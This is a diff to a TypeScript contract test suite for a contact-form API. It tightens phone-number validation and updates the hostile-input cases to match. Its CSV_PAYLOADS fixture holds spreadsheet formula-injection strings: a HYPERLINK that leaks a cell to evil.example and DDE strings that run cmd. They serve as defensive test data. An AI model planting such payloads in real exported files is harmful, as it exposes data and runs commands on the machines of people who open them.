@@ -1,5 +1,5 @@
 import { LOCAL_ANON_KEY, LOCAL_SERVICE_ROLE_KEY } from "#src/core/settings/local-dev-keys.ts";
-import { TRIM_CHARACTERS } from "#src/core/contact-schema.ts";
+import { PHONE_PATTERN, TRIM_CHARACTERS } from "#src/core/contact-schema.ts";
 import { CONTACT } from "#tests/contract/harness.ts";
 import { head } from "./raw-http.ts";
 
@@ -221,8 +221,10 @@ const CONTACT_COLUMNS = ["name", "email", "phone", "clinic_name", "message"] as 
 /*
  * The rule, per PostgREST + the table's constraints: every column is text, so the JSON text is
  * stored as written (trimmed); an empty or null message is stored as null; null or empty in a
- * required column is refused (23502 / 23514); and none of these is an e-mail address (23514).
+ * required column is refused (23502 / 23514); none of these is an e-mail address (23514), and
+ * only a long enough number is a phone number (23514; decision 094).
  */
+const phoneShape = new RegExp(PHONE_PATTERN);
 const wrongTypes: HostileCase[] = CONTACT_COLUMNS.flatMap((column) =>
   WRONG_TYPES.map(({ what, json, text }) => {
     const sent = lead();
@@ -230,6 +232,7 @@ const wrongTypes: HostileCase[] = CONTACT_COLUMNS.flatMap((column) =>
     if (column === "message") expect = stored(row(sent, { message: text === "" ? null : text }));
     else if (text === null) expect = refused(400, "23502");
     else if (column === "email" || text === "") expect = refused(400, "23514");
+    else if (column === "phone" && !phoneShape.test(text)) expect = refused(400, "23514");
     else expect = stored(row(sent, { [column]: text }));
     return {
       name: `wrong type: ${column} is ${what}`,
@@ -323,12 +326,12 @@ const keyCases: HostileCase[] = [
     expect: refused(400, "23514"),
   },
   (() => {
-    // Free text either way: the database cannot tell a phone number from a sentence of 20 characters.
+    // The message is free text, but a sentence is no phone number (decision 094).
     const sent = lead({ phone: CONTACT.message, message: CONTACT.phone });
     return {
-      name: "swapped values: phone and message (both free text, stored as sent)",
+      name: "swapped values: phone and message (a sentence is refused as the phone)",
       request: insert(JSON.stringify(sent)),
-      expect: stored(row(sent)),
+      expect: refused(400, "23514"),
     };
   })(),
   (() => {
@@ -562,10 +565,11 @@ const UNICODE: Array<{
     result: refused(400, "23514"),
   },
   {
+    // Within the length, but no phone number (decision 094).
     what: "20 four-byte emoji as the phone",
     column: "phone",
     value: emoji.repeat(20),
-    result: emoji.repeat(20),
+    result: refused(400, "23514"),
   },
   {
     what: "21 four-byte emoji as the phone",
@@ -821,7 +825,7 @@ const bodies: HostileCase[] = [
 
 export const CSV_PAYLOADS = {
   name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-  phone: "-2+3",
+  phone: "-20 7946 0000",
   clinic_name: "+cmd|' /C calc'!A0",
   message: "@SUM(1+1)*cmd|' /C calc'!A0",
   email: "=1+1@example.com",
